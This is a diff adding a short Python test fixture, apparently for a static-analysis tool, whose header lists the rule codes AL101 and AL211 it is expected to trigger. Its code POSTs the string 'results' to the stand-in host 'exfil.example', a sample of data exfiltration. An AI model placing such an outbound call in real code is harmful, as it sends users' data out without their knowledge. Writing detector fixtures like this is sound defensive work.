@@ -1,0 +1,5 @@
+# expect: AL101 AL211
+import http.client
+
+conn = http.client.HTTPSConnection("exfil.example")
+conn.request("POST", "/", body="results")
